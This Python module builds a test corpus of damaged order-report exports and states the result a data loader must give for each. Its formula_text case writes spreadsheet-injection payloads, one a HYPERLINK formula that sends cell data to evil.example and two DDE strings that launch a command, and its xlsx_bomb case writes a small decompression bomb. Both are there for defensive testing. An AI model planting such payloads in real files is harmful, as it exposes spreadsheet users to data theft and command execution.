"""A corpus of bad platform exports, generated from the real order report (never edited in place).

Each `Case` writes one exports folder for month 2017-05 and states the outcome the
loader must produce; tests/test_bad_input_corpus.py holds the loader to it and
tests/bad_inputs/README.md documents it. Write the whole corpus to look at it:

    python -m tests.bad_inputs.corpus /tmp/bad-inputs
"""

from __future__ import annotations

import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from openpyxl import Workbook

from tests.helpers import REAL_EXPORTS

MONTH = "2017-05"
BASE_ROWS = 20  # the first 20 data rows of the real order report
ORDERS_FILE = "ExportOrderList.csv"


def real_order_report() -> tuple[list[str], list[list[str]]]:
    """Header and first rows of the real 订单报表, cells exactly as exported (trailing spaces kept)."""
    text = (REAL_EXPORTS / ORDERS_FILE).read_bytes().decode("utf-8-sig")
    lines = text.splitlines()
    return lines[0].split(","), [line.split(",") for line in lines[1: BASE_ROWS + 1]]


def col(header: list[str], name: str) -> int:
    return [h.strip() for h in header].index(name)


def csv_text(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
    def cell(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if any(ch in v for ch in ',"\n\r') else v
    return newline.join(",".join(cell(v) for v in r) for r in [header, *rows]) + newline


def write(folder: Path, name: str, header, rows, encoding="utf-8-sig", newline="\n", prefix: bytes = b"") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(prefix + csv_text(header, rows, newline).encode(encoding))
    return path


def set_cell(rows, header, row_index: int, column: str, value: str) -> None:
    rows[row_index][col(header, column)] = value


@dataclass(frozen=True)
class Outcome:
    """What the loader must do. `loaded`/`quarantined` count order-report rows."""

    result: str  # loaded | quarantined | error | skipped
    loaded: int = 0
    quarantined: int = 0
    reason: str = ""  # substring of the quarantine reason / error / skip message
    column: str = ""  # the column named in the quarantine row or error
    rows: tuple[int, ...] = ()  # data row numbers quarantined


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    build: Callable[[Path], None]
    outcome: Outcome
    note: str = ""
    extra: dict = field(default_factory=dict)


# -- builders ----------------------------------------------------------------------------
def _plain(folder: Path, mutate=None, **kw) -> None:
    header, rows = real_order_report()
    if mutate:
        header, rows = mutate(header, rows) or (header, rows)
    write(folder, ORDERS_FILE, header, rows, **kw)


def _amount(value: str, column: str = "总金额", row: int = 2):
    def mutate(header, rows):
        set_cell(rows, header, row, column, value)
    return lambda folder: _plain(folder, mutate)


def utf16(folder: Path) -> None:
    header, rows = real_order_report()
    write(folder, ORDERS_FILE, header, rows, encoding="utf-16")


def mixed_encodings(folder: Path) -> None:
    _plain(folder)
    header, rows = real_order_report()
    # the same shop's item attributes arrive in GBK beside the UTF-8-BOM order report
    (folder / "items_attribute_gbk.csv").write_bytes((REAL_EXPORTS / "items_attribute_gbk.csv").read_bytes())
    lines = (REAL_EXPORTS / "ExportOrderDetailList.csv").read_bytes().decode("utf-8-sig").splitlines()
    ids = {r[0].strip() for r in rows}
    keep = [lines[0]] + [line for line in lines[1:] if line.split(",")[0].strip() in ids]
    (folder / "ExportOrderDetailList.csv").write_bytes(("\n".join(keep) + "\n").encode("gb18030"))


def double_bom(folder: Path) -> None:
    _plain(folder, prefix="\ufeff".encode("utf-8"))


def header_only(folder: Path) -> None:
    header, _ = real_order_report()
    write(folder, ORDERS_FILE, header, [])


def duplicated_header(folder: Path) -> None:
    def mutate(header, rows):
        rows.insert(10, list(header))  # the header pasted again after row 10
    _plain(folder, mutate)


def extra_columns(folder: Path) -> None:
    def mutate(header, rows):
        return header + ["自定义备注", "导出批次"], [r + ["note", "B7"] for r in rows]
    _plain(folder, mutate)


def shuffled_columns(folder: Path) -> None:
    def mutate(header, rows):
        order = list(reversed(range(len(header))))
        return [header[i] for i in order], [[r[i] for i in order] for r in rows]
    _plain(folder, mutate)


def missing_required(folder: Path) -> None:
    def mutate(header, rows):
        i = col(header, "订单创建时间")
        return header[:i] + header[i + 1:], [r[:i] + r[i + 1:] for r in rows]
    _plain(folder, mutate)


def three_date_formats(folder: Path) -> None:
    def mutate(header, rows):
        c, p = col(header, "订单创建时间"), col(header, "订单付款时间")
        rows[0][c], rows[0][p] = "2017-05-30 23:18:00", "2017-05-30 23:18:00"  # Tmall ISO style
        rows[1][c], rows[1][p] = "2017年5月30日 23:08", "2017年5月30日 23:08"  # Chinese style
        # rows 3.. keep Taobao's own 2017/5/30 23:18
    _plain(folder, mutate)


def outside_month(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 4, "订单创建时间", "2017/6/1 0:05")
    _plain(folder, mutate)


def future_dates(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 3, "订单付款时间", "2099/12/31 10:05")  # paid after the load: impossible
    _plain(folder, mutate)


def unpaid_order(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 7, "订单付款时间", "")  # never paid: every check on 付款时间 sees NULL
        set_cell(rows, header, 7, "买家实际支付金额", "0")
    _plain(folder, mutate)


def duplicate_rows(folder: Path) -> None:
    def mutate(header, rows):
        rows.append(list(rows[5]))  # the same order exported twice, identical
    _plain(folder, mutate)


def conflicting_duplicate_ids(folder: Path) -> None:
    def mutate(header, rows):
        again = list(rows[5])
        again[col(header, "总金额")] = "999.99"
        rows.append(again)
    _plain(folder, mutate)


def xlsx_with_title_row(folder: Path) -> None:
    header, rows = real_order_report()
    folder.mkdir(parents=True, exist_ok=True)
    book = Workbook()
    sheet = book.active
    sheet.append(["订单报表 2017-05（卖家中心导出）"])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(header))
    sheet.append(header)
    for r in rows:
        sheet.append(r)
    book.save(folder / "订单报表.xlsx")


def truncated_last_line(folder: Path) -> None:
    header, rows = real_order_report()
    text = csv_text(header, rows)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ORDERS_FILE).write_bytes(text[: text.rstrip("\n").rfind(",", 0, len(text) - 200)].encode("utf-8-sig"))


def crlf(folder: Path) -> None:
    _plain(folder, newline="\r\n")


def huge_cell(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 6, "订单关闭原因", "长" * (1024 * 1024 // 3) + "x")  # ~1 MB of UTF-8
    _plain(folder, mutate)


def formula_text(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 1, "订单关闭原因", '=HYPERLINK("http://evil.example/?x="&A1,"点击领券")')
        set_cell(rows, header, 2, "订单关闭原因", "=cmd|' /C calc'!A0")
        set_cell(rows, header, 3, "物流公司", "@SUM(1+1)*cmd|' /C calc'!A0")
    _plain(folder, mutate)


def _raw_lines(folder: Path, mutate) -> None:
    """The report written line by line, cells as given (no CSV quoting): for damage that quoting would repair."""
    header, rows = real_order_report()
    mutate(header, rows)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ORDERS_FILE).write_bytes("".join(",".join(r) + "\n" for r in [header, *rows]).encode("utf-8-sig"))


def stray_quote(folder: Path) -> None:
    # row 5's address opens a quote that never closes: a CSV reader takes rows 5-20 as one row
    _raw_lines(folder, lambda header, rows: set_cell(rows, header, 4, "收货地址", '"' + rows[4][col(header, "收货地址")]))


def stray_quote_closed_later(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 4, "收货地址", '"' + rows[4][col(header, "收货地址")])
        set_cell(rows, header, 6, "买家留言", rows[6][col(header, "买家留言")] + '"')  # closes two lines later
    _raw_lines(folder, mutate)


def line_break_in_cell(folder: Path) -> None:
    def mutate(header, rows):
        set_cell(rows, header, 3, "买家留言", "请周末送货\n\n谢谢")  # quoted by the writer: one row over three lines
    _plain(folder, mutate)


def xlsx_bomb(folder: Path) -> None:
    """Beside the report, a workbook whose sheet inflates 40 MiB from ~40 KiB (a zip bomb, scaled down)."""
    import zipfile

    _plain(folder)
    with zipfile.ZipFile(folder / "宝贝报表.xlsx", "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<c><v>0</v></c>" * (40 * 2**20 // 15))


def empty_file(folder: Path) -> None:
    _plain(folder)
    (folder / "宝贝报表.csv").write_bytes(b"")


def unrecognised_file(folder: Path) -> None:
    _plain(folder)
    (folder / "说明.txt").write_text("客服排班表，不是平台导出", encoding="utf-8")


R = BASE_ROWS
CASES: list[Case] = [
    Case("utf16", "UTF-16 order report (what Excel's \"Unicode text\" saves)", utf16,
         Outcome("loaded", loaded=R), "detected by its byte-order mark and transcoded to UTF-8"),
    Case("mixed_encodings", "mixed encodings in one folder (UTF-8-BOM, GBK, GB18030)", mixed_encodings,
         Outcome("loaded", loaded=R), "each file's encoding is detected on its own"),
    Case("double_bom", "double BOM", double_bom, Outcome("loaded", loaded=R), "every leading BOM is stripped from the header"),
    Case("header_only", "header only", header_only, Outcome("loaded", loaded=0), "a valid, empty report: 0 rows read"),
    Case("duplicated_header", "duplicated header row inside the data", duplicated_header,
         Outcome("quarantined", loaded=R, quarantined=1, reason="repeated header row", column="订单编号", rows=(11,))),
    Case("extra_columns", "extra columns", extra_columns, Outcome("loaded", loaded=R), "unknown columns are ignored"),
    Case("shuffled_columns", "shuffled columns", shuffled_columns, Outcome("loaded", loaded=R), "columns are mapped by header, not position"),
    Case("missing_required", "missing required column", missing_required,
         Outcome("error", reason="required column '订单创建时间'", column="订单创建时间"), "nothing of the month is written"),
    Case("nan_amount", "NaN amount", _amount("NaN"),
         Outcome("quarantined", loaded=R - 1, quarantined=1, reason="not an amount", column="总金额", rows=(3,))),
    Case("inf_amount", "inf amount", _amount("inf"),
         Outcome("quarantined", loaded=R - 1, quarantined=1, reason="not an amount", column="总金额", rows=(3,))),
    Case("negative_amount", "negative amount", _amount("-5.00", column="退款金额"),
         Outcome("loaded", loaded=R), "loaded as exported; the blocking raw_orders suite (退款金额 ≥ 0) then stops the month"),
    Case("yuan_sign", "amount with ¥", _amount("¥58.51"), Outcome("loaded", loaded=R), "¥/￥ prefix stripped: 58.51"),
    Case("thousands_separator", "amount with thousands separators", _amount("1,258.51"), Outcome("loaded", loaded=R),
         "grouping commas removed when they group exactly 3 digits: 1258.51"),
    Case("three_date_formats", "three date formats in one file", three_date_formats, Outcome("loaded", loaded=R),
         "2017/5/30 23:18, 2017-05-30 23:18:00 and 2017年5月30日 23:08 all parse"),
    Case("outside_month", "date outside the partition month", outside_month,
         Outcome("quarantined", loaded=R - 1, quarantined=1, reason="outside partition month 2017-05", column="订单创建时间", rows=(5,))),
    Case("future_date", "future date (later than the load)", future_dates,
         Outcome("quarantined", loaded=R - 1, quarantined=1, reason="订单付款时间 2099-12-31 10:05 is in the future",
                 column="订单付款时间", rows=(4,)), "order creation and payment times cannot be later than the load"),
    Case("unpaid_order", "empty 订单付款时间 (an order never paid)", unpaid_order, Outcome("loaded", loaded=R),
         "empty optional cells are NULL and never make a row vanish (a NULL check result once did; the load reconciliation caught it)"),
    Case("duplicate_rows", "duplicate rows", duplicate_rows,
         Outcome("quarantined", loaded=R, quarantined=1, reason="duplicate of ExportOrderList.csv row 6", column="订单编号", rows=(R + 1,))),
    Case("conflicting_duplicate_ids", "duplicate ids with conflicting values", conflicting_duplicate_ids,
         Outcome("quarantined", loaded=R, quarantined=1, reason="duplicate of ExportOrderList.csv row 6", column="订单编号", rows=(R + 1,)),
         "the first row (by file, then row) wins; the conflicting one is kept in quarantine"),
    Case("xlsx_title_row", "XLSX with a merged title row above the header", xlsx_with_title_row,
         Outcome("loaded", loaded=R), "the header is found within the first 5 rows"),
    Case("truncated_last_line", "truncated last line", truncated_last_line,
         Outcome("quarantined", loaded=R - 1, quarantined=1, reason="unreadable row", rows=(R,))),
    Case("crlf", "CRLF line ends", crlf, Outcome("loaded", loaded=R)),
    Case("stray_quote", "a quote that opens a cell and never closes", stray_quote,
         Outcome("error", reason="row 5, column 收货地址: a quote opens a cell and does not close", column="收货地址"),
         "refused: the file's 20 lines (counted by bytes) would be 4 rows + 1 unreadable row; nothing written"),
    Case("stray_quote_closed_later", "a stray quote closed by another two lines down", stray_quote_closed_later,
         Outcome("error", reason="row 5, column 收货地址: a quote opens a cell", column="收货地址"),
         "refused: an unreadable row spanning 3 lines hides 2 orders"),
    Case("line_break_in_cell", "a quoted cell holding line breaks and a blank line", line_break_in_cell,
         Outcome("loaded", loaded=R), "one row over three lines: the line count allows the line breaks inside cells"),
    Case("huge_cell", "a 1 MB cell", huge_cell, Outcome("loaded", loaded=R), "cells up to 4 MB per line are read whole"),
    Case("formula_text", "spreadsheet-formula text in free-text fields", formula_text, Outcome("loaded", loaded=R),
         "kept verbatim in the warehouse (it is data); neutralised with a leading ' in every CSV/XLSX the project writes"),
    Case("xlsx_bomb", "an XLSX that inflates 1,000-fold (a decompression bomb)", xlsx_bomb,
         Outcome("skipped", loaded=R, reason="refused as a decompression bomb"),
         "listed as not used without being opened (its zip directory gives the sizes); the month loads"),
    Case("empty_file", "empty (0-byte) file beside the report", empty_file,
         Outcome("skipped", loaded=R, reason="empty file"), "listed as not used; the month loads"),
    Case("unrecognised_file", "a file that is no platform report", unrecognised_file,
         Outcome("skipped", loaded=R, reason="header matches no known layout"), "listed as not used; the month loads"),
]


def write_corpus(root: Path) -> list[Path]:
    out = []
    for case in CASES:
        folder = Path(root) / case.id
        case.build(folder)
        out.append(folder)
    return out


if __name__ == "__main__":
    for folder in write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "bad-inputs")):
        print(folder)
